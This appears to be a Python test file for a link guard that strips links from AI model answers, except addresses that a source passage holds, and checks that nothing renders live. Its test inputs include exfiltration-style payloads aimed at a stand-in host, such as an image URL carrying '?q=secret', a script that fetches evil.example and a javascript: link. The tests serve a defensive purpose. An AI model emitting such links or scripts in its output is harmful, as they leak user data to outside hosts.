"""Links in answers: none that no passage holds, none that comes to life."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from kernel.answering.links import LinkGuard, inert

HELD = "The form is at https://portal.example/form. See [1]."


def live(text: str) -> set[str]:
    """Return the kinds of elements that a renderer of Markdown with HTML would bring to life, bare addresses apart."""
    tokens = MarkdownIt("commonmark", {"html": True}).parse(text)
    inner = [child for token in tokens for child in (token, *(token.children or []))]
    kinds = {token.type for token in inner if token.type in ("link_open", "image")}
    html = " ".join(token.content.lower() for token in inner if token.type in ("html_inline", "html_block"))
    return kinds | {tag for tag in ("<img", "<script", "<iframe", "<a ", "<svg", "<form") if tag in html}


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://evil.example/p.png?q=secret)",
        "[more](https://evil.example/)",
        "<https://evil.example/>",
        '<img src="https://evil.example/p.png">',
        "<script>fetch('//evil.example')</script>",
        "[form](javascript:alert(1))",
        "![x](data:text/html;base64,AAAA)",
        "[a][b]\n\n[b]: https://evil.example/",
        "www.evil.example/log",
        "evil.example/log?q=secret",
        "//evil.example/p.png",
    ],
)
def test_a_foreign_link_is_taken_out_and_nothing_is_live(text: str) -> None:
    guard = LinkGuard([HELD], "en")
    shown = guard.clean(f"See {text} now.")
    assert guard.removed
    assert "evil.example" not in shown
    assert "(link removed)" in shown
    assert not live(shown)


def test_an_address_that_a_passage_holds_stays() -> None:
    guard = LinkGuard([HELD], "en")
    assert (
        guard.clean("The form is at https://portal.example/form.")
        == "The form is at https://portal.example/form."
    )
    assert guard.removed == 0


@pytest.mark.parametrize(
    "text",
    [
        "The dose is 5 mg/kg and/or 1.5/2.0 ml [1].",
        "x < 5 and y > 3, a<b.",
        "比率は3:1、時刻は10:30とする[2]。",
        "Use either Fig. 3 or ISO-9001:2015 [1] [2].",
        "Type `<b>` for bold.",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert LinkGuard([], "en").clean(text) == text


@settings(deadline=None)
@given(st.text(alphabet="ab[]()!<>:/ .\n#=\"'`*_\\htpsimgcr", max_size=80))
def test_nothing_is_live_whatever_the_model_writes(text: str) -> None:
    assert not live(inert(text))


@settings(deadline=None)
@given(st.lists(st.text(alphabet="ab[]()!<>:/.htps \nあ。", max_size=6), max_size=30))
def test_a_stream_shows_what_the_whole_would(pieces: list[str]) -> None:
    guard = LinkGuard([], "en")
    streamed = "".join([*(guard.feed(piece) for piece in pieces), guard.rest()])
    assert not live(streamed)
    assert "//" not in streamed.replace("(link removed)", "") or "//" in inert("".join(pieces))


def test_an_address_that_comes_in_pieces_is_never_shown() -> None:
    guard = LinkGuard([], "en")
    shown = ""
    for piece in ["The an", "swer ![x](htt", "ps://evil.ex", "ample/p.png?q=1", ") is 5."]:
        shown += guard.feed(piece)
        assert "evil" not in shown
    assert shown + guard.rest() == "The answer ![x] ((link removed)) is 5."


def test_japanese_streams_without_waiting_for_spaces() -> None:
    assert LinkGuard([], "ja").feed("温度は19℃です。") == "温度は19℃です。"
